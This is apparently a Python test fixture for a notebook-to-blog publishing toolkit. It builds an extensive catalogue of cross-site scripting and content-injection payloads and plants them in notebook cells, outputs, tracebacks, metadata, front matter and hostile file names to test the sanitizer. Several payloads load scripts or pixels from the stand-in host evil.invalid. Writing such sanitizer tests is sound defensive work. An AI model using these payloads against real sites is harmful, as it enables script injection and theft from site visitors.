"""What an attacker would put into a post, in every place of one, between honest words.

Whatever runs calls `hit()` or opens a dialog; whatever phones home asks a host that is not there.
"""

import base64
import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

from tests.posts.notebooks import DAY, Cell, code, in_base64, markdown, notebook, png, raw, source
from toolkit.posts.sources import Source

FAR = "https://evil.invalid"
_SCRIPT = "<script>hit()</script>"
_IMG = "<img src=x onerror=hit()>"
_DATA = "data:text/html;base64," + base64.b64encode(_SCRIPT.encode()).decode()
_SVG_IN_BASE64 = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>')


@dataclass(frozen=True)
class Vector:
    """An attack; one that is never closed takes the rest of its own cell with it."""

    text: str
    closed: bool = True

    @property
    def in_one_line(self) -> bool:
        """Can it stand inside a heading, a list or a table?"""
        return self.closed and not set("\n|") & set(self.text)


def _open(*texts: str) -> list[Vector]:
    return [Vector(text, closed=False) for text in texts]


SCRIPTS = [*map(Vector, [
    _SCRIPT,
    "<script>alert(1)</script>",
    f'<script src="{FAR}/x.js"></script>',
    "<script type=module>hit()</script>",
    "<SCRIPT/x>hit()</SCRIPT >",
    "<scr<script>ipt>hit()</script>",
    "<script>\nhit()\n</script>",
    "<script src=data:text/javascript,hit()></script>",
    '<b title="</b><script>hit()</script>">b</b><script>hit()</script>',
    f'"><script>hit()</script><a title="{_SCRIPT}">a</a>',
    "</p></div></div></article></main><script>hit()</script>",
    "\0<script\0>hit()</script>" + _SCRIPT,
]), *_open("<script>hit()", f"<!--{_SCRIPT}--!>{_IMG}<!--", f"<plaintext>{_SCRIPT}")]  # fmt: skip
EVENTS = [*map(Vector, [
    _IMG,
    "<img src=x onerror=alert(1)>",
    '<img src=x oNeRrOr = "hit()"//>',
    "<img/src=x/onerror=hit()>",
    "<img src=`x`onerror=hit()>",
    "<img src=x title='a\n'onerror='hit()'>",
    "<body onload=hit() onpageshow=hit()>",
    "<details open ontoggle=hit()><summary>s</summary>d</details>",
    "<input autofocus onfocus=hit()>",
    "<p tabindex=0 autofocus onfocus=hit()>p</p>",
    "<div onmouseover=hit() onpointerenter='hit()'>d</div>",
    "<b onclick=hit()>b</b>",
    "<p/onclick=hit()>p</p>",
    "<x onclick=hit()>x</x>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<marquee onstart=hit()>m</marquee>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=hit()>b</b>",
    "<b style='transition:color 1s' ontransitionend=hit()>b</b>",
    "<button popovertarget=pop>b</button><div popover id=pop onbeforetoggle=hit()>d</div>",
    "<b style=content-visibility:auto oncontentvisibilityautostatechange=hit()>b</b>",
    "<dialog open oncancel=hit()>d</dialog>",
    "<select autofocus onfocus=hit()><option>o</option></select>",
    "<a href=# onauxclick=hit()>a</a>",
]), *_open('<b title="b', "<img src=x onerror=hit() ")]  # fmt: skip
LINKS = [*map(Vector, [
    f'<a href="{address}">a</a>' for address in (
        "javascript:hit()", "JaVaScRiPt:alert(1)", "java&#115;cript:hit()", "&#x6A;avascript:hit()",
        "java&Tab;script&colon;hit()", "javascript&#x3a;hit()", "java\nscript:hit()",
        "java\tscript:hit()", " &#1; javascript:hit()", "\x01javascript:hit()", _DATA,
        "data:text/html,<script>hit()</script>", "vbscript:msgbox(1)", "blob:null/1",
        "file:///etc/passwd", "view-source:x", "javascript://%0ahit()", "feed:javascript:hit()",
    )
]), *map(Vector, [
    f"<a href=//evil.invalid ping={FAR} target=_blank>a</a>",
    "<map name=m><area href=javascript:hit()></map><img usemap=#m src=x>",
    "<a href=javascript:hit()><b title='</a>'>b</b></a>",
    "<a name=hits id=hits href=javascript:hit()>a</a>",
])]  # fmt: skip
DRAWN = [*map(Vector, [
    "<svg onload=hit()></svg>",
    "<svg><script>hit()</script></svg>",
    "<svg><script href=data:text/javascript,hit() /></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s /></svg>",
    "<svg><a xlink:href='javascript:hit()'><text y=9>t</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:hit() /><text y=9>t</text></a></svg>",
    "<svg><a href=#><set attributeName=href to=javascript:hit() /><text y=9>t</text></a></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe>'
    "</foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml;base64,{_SVG_IN_BASE64.decode()}#x' /></svg>",
    f"<svg><image href={FAR}/x.png /></svg>",
    f"<svg><style>{_IMG}</style></svg>",
    f"<svg><desc>{_IMG}</desc><title>{_IMG}</title></svg>",
    f'<svg></p><style><a id="</style>{_IMG}">',
    "<math href=javascript:hit()><mi>x</mi></math>",
    "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
    f"<math><annotation-xml encoding=text/html>{_SCRIPT}{_IMG}</annotation-xml></math>",
    f"<math><mtext><mglyph><style><img title='</style>{_IMG}'></style></mtext></math>",
]), *_open(
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_IMG}'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}</style>",
)]  # fmt: skip
FRAMES = [*map(Vector, [
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    f"<base href={FAR}/><img src=x.png>",
    f"<link rel=stylesheet href={FAR}/x.css>",
    f"<link rel=prefetch href={FAR}/x><link rel=dns-prefetch href={FAR}>",
    f"<style>@import url({FAR}/x.css);</style>",
    f"<style>.post{{display:none;background:url({FAR}/x.png)}}</style>",
    f'<div style="background:url({FAR}/x.png)">d</div>',
    "<div style='position:fixed;inset:0;width:expression(hit())'>d</div>",
    "<div style='behavior:url(x.htc);-moz-binding:url(x.xml)'>d</div>",
    "<iframe src=javascript:parent.hit()></iframe>",
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    f"<iframe src={_DATA}></iframe>",
    f"<object data={_DATA}></object>",
    "<object data=javascript:hit()></object>",
    f"<embed src={_DATA}>",
    f"<form action={FAR}><button>b</button></form>",
    "<form id=f></form><button form=f formaction=javascript:hit()>b</button>",
    "<form><input name=attributes><input name=innerHTML><input type=submit></form>",
    f"<input type=image src={FAR}/x.png formaction=javascript:hit()>",
    "<isindex action=javascript:hit() type=image>",
    f"<template>{_SCRIPT}</template>",
    f"<div><template shadowrootmode=open>{_IMG}</template></div>",
    f"<frameset><frame src={_DATA}></frameset>",
    f"<portal src={FAR}></portal>",
    f"<fencedframe src={FAR}></fencedframe>",
    f"<img srcset='{FAR}/x.png 1x'>",
    f"<picture><source srcset={FAR}/x.png><img src=x></picture>",
    f"<img src={FAR}/pixel.gif>",
    "<img src=javascript:hit()>",
    f"<img src='data:image/svg+xml;base64,{_SVG_IN_BASE64.decode()}'>",
    f"<video poster={FAR}/x.png src={FAR}/x.mp4></video>",
    f"<table background={FAR}/x.png><tr><td background={FAR}/y.png>d</td></tr></table>",
    "<p id=content name=cookie>p</p><a id=location name=location>a</a>",
    "<p class='bar skip lead beside'>p</p>",
])]  # fmt: skip
TRICKS = [*map(Vector, [
    f"<noscript><p title='</noscript>{_IMG}'></noscript>",
    f"<textarea><img title='</textarea>{_IMG}'></textarea>",
    f"<title><img title='</title>{_IMG}'></title>",
    f"<xmp><img title='</xmp>{_IMG}'></xmp>",
    f"<noembed><img title='</noembed>{_IMG}'></noembed>",
    f"<noframes><img title='</noframes>{_IMG}'></noframes>",
    f"<style><img title='</style>{_IMG}'></style>",
    f"<iframe><img title='</iframe>{_IMG}'></iframe>",
    f"<!--[if IE]>{_SCRIPT}<![endif]-->{_IMG}",
    f"<!-->{_SCRIPT}-->",
    f"<!-- --!>{_IMG} -->",
    f"<!--><img title='-->{_IMG}'>",
    f"<![CDATA[{_SCRIPT}]]>",
    f"<svg><![CDATA[{_IMG}]]></svg><b title='<![CDATA['>{_IMG}</b>",
    f"<?xml version='1.0'?>{_SCRIPT}",
    f"<!DOCTYPE x [<!ENTITY y '{_SCRIPT}'>]>{_IMG}",
    f"<select><template><style><img title='</style>{_IMG}'></template></select>",
    f"<table><caption><svg><p><style><b title='</style>{_IMG}'></style></p></svg></table>",
    f"<a><b><table><a title='</table>{_IMG}'>a</a></table></b></a>",
]), *_open("<!--", "<textarea>", "<title>", "<style>", "<xmp>", "<iframe>", "<noscript>",
           "<template>", "<svg><style>", "<select>", "<a href='", "<![CDATA[", "<?x")]  # fmt: skip
HTML = [*SCRIPTS, *EVENTS, *LINKS, *DRAWN, *FRAMES, *TRICKS]

MARKDOWN = [*map(Vector, [
    *(f"[a]({address})" for address in (
        "javascript:hit()", "JaVaScRiPt:hit()", "<javascript:hit()>", "  javascript:hit()",
        "&#106;avascript:hit()", "java&Tab;script&colon;hit()", "java%0ascript:hit()",
        "\\javascript:hit()", "vbscript:msgbox(1)", _DATA, "data:text/html,hit", "file:///etc",
        "blob:null/1", "javascript:hit() 'title'", "jar:x", "about:blank",
    )),
    "<javascript:hit()>",
    "<data:text/html,hit>",
    "[a][r]\n\n[r]: javascript:hit()",
    "[r2]\n\n[r2]:\n  <javascript:hit()>\n  'title'",
    "![a][r3]\n\n[r3]: javascript:hit()",
    "![a](javascript:hit())",
    f"![a]({FAR}/x.png)",
    "![a](//evil.invalid/x.png '\" onerror=\"hit()')",
    '![" onerror="hit()](gone.png)',
    f"![{_IMG}](gone.png)",
    "[![a](javascript:hit())](javascript:hit())",
    f"[{_IMG}](x.md)",
    '[a](# "\\" onclick=\\"hit()")',
    f'[a](https://a.invalid "\'>{_SCRIPT}")',
    f"<a href='javascript:hit()'>**b** {_SCRIPT}</a>",
    f"```html\n{_SCRIPT}\n```",
    f'```"><script>hit()</script>\n{_IMG}\n```',
    f"~~~ {_IMG}\n{_SCRIPT}\n~~~",
    f"    {_SCRIPT}\n    {_IMG}",
    f"`{_SCRIPT}` \\<script>hit()\\</script>",
    f"${_IMG}$ and ${_SCRIPT}$",
    r"$\href{javascript:hit()}{x}$ $\url{javascript:hit()}$",
    rf"$\text{{</mtext></math>{_SCRIPT}}}$",
    r"$$\style{background:url(x)}{\class{bar}{\cssId{content}{x}}}$$",
    rf"$$\begin{{array}}{{\">{_IMG}}} a \end{{array}}$$",
    f"\\begin{{align}}\n{_SCRIPT}\n\\end{{align}}",
    f"| a |\n|---|\n| {_SCRIPT} {_IMG} |",
    f"a[^1]\n\n[^1]: b {_SCRIPT} [c](javascript:hit())",
    f'a[^"><img]\n\n[^"><img]: b {_IMG}',
    f"> {_SCRIPT}\n> {_IMG}",
    f"- {_SCRIPT}\n- [ ] {_IMG}",
    f"Setext {_IMG}\n===",
    "Setext [a](javascript:hit())\n---",
    f"<b>\n\n{_SCRIPT}\n\n</b>",
    "<div markdown=1 onclick=hit()>\n\n[a](javascript:hit())\n\n</div>",
    "$a$ <b onclick=hit()>$b$</b>",
])]  # fmt: skip

_HEAD = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_DRAWINGS = [
    "<script>hit()</script>",
    "<script><![CDATA[hit()]]></script>",
    '<script xlink:href="data:text/javascript,hit()"/>',
    f'<script href="{FAR}/x.js"/>',
    '<x:script xmlns:x="http://www.w3.org/2000/svg">hit()</x:script>',
    '<script xmlns="http://www.w3.org/1999/xhtml">hit()</script>',
    '<rect width="9" height="9" onload="hit()" onclick="hit()"/>',
    '<animate attributeName="x" dur="1s" onbegin="hit()"/>',
    '<a xlink:href="javascript:hit()"><text y="9">t</text></a>',
    '<a><set attributeName="href" to="javascript:hit()"/><text y="9">t</text></a>',
    "<use href=\"data:image/svg+xml,&lt;svg id='x' onload='hit()'/>#x\"/>",
    f'<use href="{FAR}/x.svg#x"/>',
    f'<image href="{FAR}/x.png" width="9" height="9"/>',
    '<image href="data:text/html,&lt;script>hit()&lt;/script>" width="9" height="9"/>',
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">{_SCRIPT}'
    '<img src="x" onerror="hit()"/><iframe src="javascript:parent.hit()"/></body></foreignObject>',
    '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>parent.hit()&lt;/script>"/>',
    f"<style>@import url({FAR}/x.css);</style>",
    f"<style>rect{{fill:url({FAR}/x.svg#x)}}</style>",
    f"<style>@\\69mport '{FAR}/x.css';</style>",
    f"<style>@import/**/'{FAR}/x.css';</style>",
    f'<rect width="9" height="9" style="fill:u\\72l({FAR}/x.svg#x)"/>',
    f'<rect width="9" height="9" fill="url({FAR}/x.svg#x)"/>',
    f'<rect width="9" height="9" filter="url( \'{FAR}/x.svg#x\' )"/>',
    f'<filter id="f"><feImage href="{FAR}/x.png"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/>',
    '<handler xmlns="http://www.w3.org/2000/svg" type="text/javascript">hit()</handler>',
    '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=//e.invalid"/>',
    f'<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{FAR}/x.css"/>',
]
SVG = [
    *(f'<svg {_HEAD} width="90" height="20">{inside}<text y="18">ok</text></svg>'
      for inside in _DRAWINGS),
    f'<svg {_HEAD} width="9" height="9" onload="hit()" onfocus="hit()"/>',
    f'<?xml-stylesheet href="{FAR}/x.css"?><svg {_HEAD} width="9" height="9"/>',
    f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{FAR}"?><svg {_HEAD}/>',
    f'<!DOCTYPE svg [<!ENTITY x "{FAR}">]><svg {_HEAD} width="9" height="9"><text>&x;</text></svg>',
    f'<!DOCTYPE svg SYSTEM "{FAR}/x.dtd"><svg {_HEAD} width="9" height="9"/>',
    f'<html xmlns="http://www.w3.org/1999/xhtml">{_SCRIPT}</html>',
    f"<!-- -->{_SCRIPT}<svg {_HEAD}/>",
]  # fmt: skip
TERMINAL = [*map(Vector, [
    f"\x1b[31m{_SCRIPT}\x1b[0m",
    "\x1b]8;;javascript:hit()\x07link\x1b]8;;\x07",
    "<scr\x1b[0mipt>hit()</scr\x1b[1mipt>",
    f"\x1b[38;2;1;2;3m{_IMG}\x1b[48;5;{'9' * 40}mx",
    f'\x1b]0;"><script>hit()</script>\x07{_IMG}',
    f"x<\b{_SCRIPT}",
    f"gone\r{_SCRIPT}",
    f"\x1bP{_SCRIPT}\x1b\\",
    f"\x1b[1;3;4;7m{_IMG}",
    f"&lt;img src=x onerror=hit()&gt; &amp;{_IMG}",
])]  # fmt: skip
TITLES = [
    f"Title {_SCRIPT} end",
    'Title "><img src=x onerror=hit()> end',
    f"Title </title></h1>{_SCRIPT}]]> end",
    "Title {{ 7 * 7 }} {% raw %} ${hit()} <%= 1 %> end",
    "Title &lt;script&gt;hit()&lt;/script&gt; &#60;img src=x onerror=hit()&#62; end",
]


@dataclass(frozen=True)
class Trap:
    """A source full of attacks, and the honest words that its post must still say, in order."""

    name: str
    source: Source
    words: tuple[str, ...]


def traps(folder: Path) -> list[Trap]:
    """Every attack in every place that it can stand in; the file names are hostile too."""
    return [
        _trap("cells", folder, _cells([*HTML, *MARKDOWN])),
        _trap("headings", folder, _headings()),
        _trap("html", folder, _outputs("text/html", HTML)),
        _trap("said", folder, _outputs("text/markdown", [*HTML, *MARKDOWN])),
        _file(folder),
        _trap("drawings", folder, _drawings()),
        _trap("streams", folder, _streams()),
        _trap("errors", folder, _errors()),
        _trap("code", folder, _code()),
        _trap("odd", folder, _odd()),
        *_headed(folder),
    ]


Placed = list[tuple[Cell, tuple[str, ...]]]


def _pair(number: int) -> tuple[str, str]:
    return f"before{number}it", f"after{number}it"


def _made(text: str, path: str, folder: Path, days: int = 0) -> Source:
    # The newest posts are those whose whole text is in the feed.
    return source(text, path, folder, repo="week-1", first=DAY + timedelta(days),
                  tree="https://github.com/ada/week-1/blob/abc", commit="abc")  # fmt: skip


def _trap(name: str, folder: Path, placed: Placed) -> Trap:
    """A notebook whose every cell is followed by one of honest words alone."""
    cells: list[Cell] = [markdown(f"# The {name}")]
    words: list[str] = []
    for number, (cell, said) in enumerate(placed):
        cells += [cell, markdown(f"beyond{number}it")]
        words += [*said, f"beyond{number}it"]
    kernel = {"name": _SCRIPT, "display_name": _IMG, "language": f'"><script>{name}</script>'}
    data = notebook(*cells, kernelspec=kernel, title=_SCRIPT, authors=[{"name": _IMG}],
                    language_info={"name": f'python">{_IMG}', "version": _SCRIPT})  # fmt: skip
    path = f"notebooks/{name}<img src=x onerror=hit()>.ipynb"
    return Trap(name, _made(data.decode(), path, folder, days=2), tuple(words))


def _between(vector: Vector, number: int, gap: str) -> tuple[str, tuple[str, ...]]:
    before, after = _pair(number)
    text = f"{before}{gap}{vector.text}{gap}{after}"
    return text, (before, after) if vector.closed else (before,)


def _cells(vectors: Sequence[Vector]) -> Placed:
    return [
        (markdown(text), said)
        for number, vector in enumerate(vectors)
        for text, said in [_between(vector, number, "\n\n")]
    ]


def _headings() -> Placed:
    """In a heading, a list, a quotation, a table and a link, each with its own words."""
    placed: Placed = []
    for number, vector in enumerate(v for v in [*HTML, *MARKDOWN] if v.in_one_line):
        text, said = _between(vector, number, " ")
        shape = ("## {}", "- {}\n- item", "> {}", "| a |\n|---|\n| {} |", "**{}**")[number % 5]
        placed += [(markdown(shape.format(text)), said)]
    return placed


def _outputs(kind: str, vectors: Sequence[Vector]) -> Placed:
    gap = "\n\n" if kind == "text/markdown" else " "
    placed: Placed = []
    for number, vector in enumerate(vectors):
        text, said = _between(vector, number, gap)
        if kind == "text/html":  # one whose form is closed keeps its words in paragraphs
            text = f"<p>{said[0]}</p>{vector.text}" + "".join(f"<p>{w}</p>" for w in said[1:])
        lines = text.splitlines(keepends=True)
        placed += [(code("show()", _rich({kind: lines, "text/plain": "plain"})), said)]
    return placed


def _rich(data: dict[str, Any], **fields: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": {}, **fields}


def _file(folder: Path) -> Trap:
    """A Markdown file; a vector that is never closed would take all that follows."""
    parts: list[str] = []
    words: list[str] = []
    for number, vector in enumerate(v for v in [*HTML, *MARKDOWN] if v.closed):
        text, said = _between(vector, number, "\n\n")
        parts.append(text)
        words += said
    text = '---\ntitle: "The file"\n---\n\n' + "\n\n".join(parts)
    return Trap("file", _made(text, "posts/file.md", folder, days=2), tuple(words))


def _drawings() -> Placed:
    """As an output, as an attachment, embedded, and as a file beside."""
    placed: Placed = []
    for number, svg in enumerate(SVG):
        data = "data:image/svg+xml;base64," + base64.b64encode(svg.encode()).decode()
        name = f'{number}"><img src=x onerror=hit()>.svg'
        text = f"before{number}it ![a](attachment:{number}.svg) ![b]({data}) after{number}it"
        held = {f"{number}.svg": {"image/svg+xml": in_base64(svg.encode()), "text/html": _SCRIPT},
                name: {"text/html": _SCRIPT}}  # fmt: skip
        placed += [
            (markdown(text, attachments=held), _pair(number)),
            (code("draw()", _rich({"image/svg+xml": svg, "text/plain": "plain"})), ()),
        ]
    return placed


def _streams() -> Placed:
    placed: Placed = []
    for number, vector in enumerate([*HTML, *TERMINAL]):
        before, after = _pair(number)
        name = ("stdout", "stderr", '"><script>hit()</script>', f"x {_IMG}")[number % 4]
        text = f"{before}\n{vector.text}\n{after}\n"
        placed += [(code("run()", {"output_type": "stream", "name": name, "text": text}),
                    (before, after))]  # fmt: skip
    return placed


def _errors() -> Placed:
    """In the lines of a traceback, in an error's name and in what it says."""
    placed: Placed = []
    for number, vector in enumerate([*HTML, *TERMINAL]):
        before, after = _pair(number)
        lines = [f"\x1b[31m{before}\x1b[0m", f"----> {vector.text}", after] if number % 2 else []
        named = {"ename": f"{before}\n{vector.text}", "evalue": f"{vector.text}\n{after}"}
        placed += [(code("fail()", {"output_type": "error", "traceback": lines, **named}),
                    (before, after))]  # fmt: skip
    return placed


def _code() -> Placed:
    """As code, as LaTeX and as plain text, where the attack itself is honest words."""
    placed: Placed = []
    for number, vector in enumerate([*HTML, *MARKDOWN]):
        before, after = _pair(number)
        magic = ("", "%%html\n", "%%javascript\n", f"%%{_IMG}\n", "#| alt: x\n")[number % 5]
        plain = _rich({"text/plain": f"plain{number}it {vector.text} plainly{number}it"})
        latex = _rich({"text/latex": rf"$\text{{ {vector.text} }}$", "text/plain": vector.text})
        shown = vector.text if vector.text.isprintable() else ""
        said = (before, shown, after, f"plain{number}it", shown, f"plainly{number}it")
        said = (before, shown, after, f"plain{number}it", shown, f"plainly{number}it")
        placed += [(code(f"{magic}{before}\n{vector.text}\n{after}", plain, latex), said)]
    return placed


def _odd() -> Placed:
    """Kinds of output that no one shows, and all that stands beside the cells."""
    odd: list[dict[str, Any]] = [
        {kind: text, "text/plain": f"plain {_IMG}"}
        for kind in (
            "application/javascript", "text/javascript", "application/ecmascript", "text/x-evil",
            "application/xhtml+xml", "text/html; charset=utf-8", "TEXT/HTML", "application/pdf",
            "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json",
            "application/vnd.evil+html", "image/png", "image/gif", "image/svg+xml", "image/x-evil",
            "application/vnd.bokehjs_exec.v0+json", f'"><script>{0}</script>', "application/json",
        )
        for text in (_SCRIPT, [_IMG, _SCRIPT], {"model_id": _SCRIPT, _IMG: [_IMG]}, None)
    ]  # fmt: skip
    table = (f"<table class='dataframe bar' onclick=hit()><tr><th>{_IMG}</th><td>{_SCRIPT}</td>"
             "<td style='background:url(x)' onclick=hit()>cell</td></tr></table>")  # fmt: skip
    picture = {"image/png": in_base64(png())}
    described = {"alt": '"><script>hit()</script>" onerror="hit()', "width": f'1"{_IMG}'}
    outputs = [
        *map(_rich, odd),
        _rich({"text/html": table}),
        _rich({**picture, "text/html": f"<div>{_SCRIPT}</div>"}),
        _rich(picture, metadata={"image/png": described}),
        {"output_type": "update_display_data", "data": {"text/html": _SCRIPT + _IMG}},
        {"output_type": _SCRIPT, "data": {"text/html": _IMG}, "name": _IMG, "text": _SCRIPT},
    ]
    cells: list[Cell] = [code("odd()", output) for output in outputs]
    name = 'a"><img src=x onerror=hit()>.png'
    cells += [
        code(
            "alt()", _rich(picture), alt='" onload="hit()', tags=[f'"><script>{_IMG}', "collapse"]
        ),
        code('#| alt: "><script>hit()</script>\nalt()', _rich(picture)),
        markdown(f"![a]({name}) ![b](<attachment:{name}>)", attachments={name: picture}),
        markdown('![" onload="hit()](attachment:a.png)', attachments={"a.png": picture}),
        {**code("count()"), "execution_count": _SCRIPT, "id": '"><script>hit()</script>'},
        raw(_SCRIPT + _IMG),
        {**raw(_SCRIPT), "metadata": {"raw_mimetype": "text/html"}},
    ]
    return [pair for n, cell in enumerate(cells) for pair in _surrounded(cell, n)]


def _surrounded(cell: Cell, number: int) -> Iterator[tuple[Cell, tuple[str, ...]]]:
    yield markdown(f"before{number}it"), (f"before{number}it",)
    yield cell, ()


def _headed(folder: Path) -> Iterator[Trap]:
    """In the front matter: of Markdown files, and one in a notebook's metadata."""
    for number, title in enumerate(TITLES):
        told = {"title": title, "summary": f"Sum {title}", "tags": [f"tag{number} {title}"[:38]]}
        if number == len(TITLES) - 1:
            text = notebook(markdown("Honest words."), portfolio=told).decode()
            path = "notebooks/head'><script>hit()<.ipynb"
        else:
            lines = "\n".join(f"{name}: {json.dumps(value)}" for name, value in told.items())
            text = f"---\n{lines}\nx{_SCRIPT}: {_IMG}\n---\nHonest words."
            path = f"posts/head{number}'\"><img src=x onerror=hit()>.md"
        yield Trap(f"head {number}", _made(text, path, folder), ("Honest words.",))
